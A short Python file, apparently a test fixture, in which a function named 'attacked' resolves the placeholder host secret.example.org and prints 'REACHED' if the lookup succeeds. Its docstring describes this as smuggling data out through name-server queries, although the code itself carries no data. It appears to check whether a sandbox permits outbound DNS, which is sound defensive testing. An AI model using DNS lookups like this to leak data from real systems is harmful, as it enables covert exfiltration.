"""Smuggles data out in questions to a name server."""

import socket


def attacked(x):
    try:
        socket.getaddrinfo("secret.example.org", 80)
        print("REACHED")
    except OSError:
        pass
    return x
